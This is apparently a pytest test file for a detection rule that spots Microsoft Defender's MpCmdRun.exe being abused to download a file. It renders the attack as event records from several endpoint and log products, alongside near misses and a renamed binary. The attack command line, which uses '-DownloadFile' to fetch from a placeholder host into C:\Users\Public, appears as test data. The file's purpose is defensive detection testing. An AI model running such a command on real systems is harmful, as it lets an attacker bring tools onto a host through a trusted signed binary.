"""The reference rule finds its attack in the records of every product that it names."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import pytest

from tests.evtx_writer import write_evtx
from tests.scenario import DEFENDER, Machine
from tests.sources.products import crowdstrike, elastic, endgame, m365_defender, sentinel_one
from tests.sources.products.case import Process, Record
from tocsin.detection.alerts.alert import Alert
from tocsin.detection.hunt import Hunt
from tocsin.detection.ruleset import read_ruleset
from tocsin.sources.batch import Rejects
from tocsin.sources.inputs import find_inputs

DOWNLOAD = f'"{DEFENDER}" -DownloadFile -url https://cdn.example.com/a.txt -path C:\\Users\\Public\\a.txt'
ATTACK = Process(DEFENDER, DOWNLOAD, original_file_name="MpCmdRun.exe")
RENAMED = Process(
    "C:\\Users\\Public\\update.exe", DOWNLOAD.replace(DEFENDER, "update.exe"), original_file_name="MpCmdRun.exe"
)
NEAR_MISSES = (
    Process(
        DEFENDER,
        f'"{DEFENDER}" SignatureUpdate -url https://cdn.example.com/a.txt',
        original_file_name="MpCmdRun.exe",
    ),
    Process(DEFENDER, DOWNLOAD.replace("-", "/"), original_file_name="MpCmdRun.exe"),
    Process("C:\\Tools\\get.exe", DOWNLOAD.replace(DEFENDER, "get.exe"), original_file_name="get.exe"),
)


def ndjson(records: Iterable[Record]) -> bytes:
    return "".join(json.dumps(record) + "\n" for record in records).encode()


def rendered(render: Callable[[Process], Record], *others: Record) -> Callable[[list[Process]], bytes]:
    return lambda processes: ndjson([*others, *map(render, processes)])


def sysmon(process: Process) -> Record:
    machine = Machine(process.host, f"{process.domain}\\{process.user}", 5)
    record = machine.process(process.image, "", process.parent, process.original_file_name)
    record["Event"]["EventData"]["CommandLine"] = process.command_line
    return record


def security(process: Process) -> Record:
    machine = Machine(process.host, f"{process.domain}\\{process.user}", 6)
    return machine.security(4688, {
        "SubjectUserSid": process.sid, "SubjectUserName": process.user, "SubjectDomainName": process.domain,
        "SubjectLogonId": "0x5a2f1", "NewProcessId": hex(process.pid), "NewProcessName": process.image,
        "TokenElevationType": "%%1938", "ProcessId": hex(process.parent_pid), "CommandLine": process.command_line,
        "ParentProcessName": process.parent,
    })  # fmt: skip


def nxlog(process: Process) -> Record:
    event = sysmon(process)["Event"]
    head = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Hostname": process.host}
    written = {"SourceName": "Microsoft-Windows-Sysmon", "EventTime": "2026-10-06 09:12:44"}
    return {**head, **written, **event["EventData"]}


# How each source writes the start of processes: the file's name, and its content.
SOURCES: dict[str, tuple[str, Callable[[list[Process]], bytes], str]] = {
    "Sysmon, EVTX": ("sysmon.evtx", lambda ps: write_evtx(list(map(sysmon, ps))), "windows.sysmon_operational"),
    "Sysmon, nxlog": ("nxlog.json", rendered(nxlog), "windows.sysmon_operational"),
    "Security, EVTX": ("security.evtx", lambda ps: write_evtx(list(map(security, ps))), "system.security"),
    "forwarded": (
        "ForwardedEvents.evtx",
        lambda ps: write_evtx(list(map(sysmon, ps))),
        "windows.sysmon_operational",
    ),
    "Winlogbeat": ("winlogbeat.ndjson", rendered(elastic.winlogbeat_process_started), "winlogbeat"),
    "Elastic Defend": ("defend.ndjson", rendered(elastic.defend_process_started), "endpoint.events.process"),
    "Elastic Endgame": ("endgame.ndjson", rendered(endgame.process_started), "endgame"),
    "Microsoft 365 Defender": ("m365.ndjson", rendered(m365_defender.process_started), "m365_defender.event"),
    "SentinelOne": ("s1.ndjson", rendered(sentinel_one.process_started), "sentinel_one_cloud_funnel.event"),
    "CrowdStrike": (
        "fdr.ndjson",
        rendered(crowdstrike.process_started, crowdstrike.HOST_RECORD, crowdstrike.USER_RECORD),
        "crowdstrike.fdr",
    ),
}
# Products whose records do not hold what the file was first called.
WITHOUT_ORIGINAL_NAME = ("Security, EVTX", "SentinelOne", "CrowdStrike")
ALL = pytest.mark.parametrize("source", SOURCES)


def hunted(tmp_path: Path, source: str, processes: list[Process]) -> list[Alert]:
    """Write processes as a source does, and return the reference rule's alerts."""
    name, content, dataset = SOURCES[source]
    path = tmp_path / name
    path.write_bytes(content(processes))
    rejects = Rejects()
    report = Hunt(read_ruleset(None).ready).run(find_inputs([str(path)]), rejects)
    assert (report.events[dataset], dict(rejects.counts)) == (report.total_events, {})
    assert report.total_events >= len(processes)
    return report.alerts


@ALL
def test_the_attack_raises_exactly_one_alert(tmp_path: Path, source: str) -> None:
    (alert,) = hunted(tmp_path, source, [ATTACK, *NEAR_MISSES])
    event: dict[str, Any] = dict(alert.event)
    assert event["process.args"][1:4] == ["-DownloadFile", "-url", "https://cdn.example.com/a.txt"]
    assert str(event["host.name"]).upper().startswith("WS-0142")
    assert event["user.name"] == "m.weber"
    assert event["@timestamp"].startswith("2026-10-06T")


@ALL
def test_a_near_miss_raises_none(tmp_path: Path, source: str) -> None:
    assert hunted(tmp_path, source, list(NEAR_MISSES)) == []


@ALL
def test_a_renamed_binary_is_found_where_its_first_name_is_recorded(tmp_path: Path, source: str) -> None:
    alerts = hunted(tmp_path, source, [RENAMED])
    assert len(alerts) == (0 if source in WITHOUT_ORIGINAL_NAME else 1)
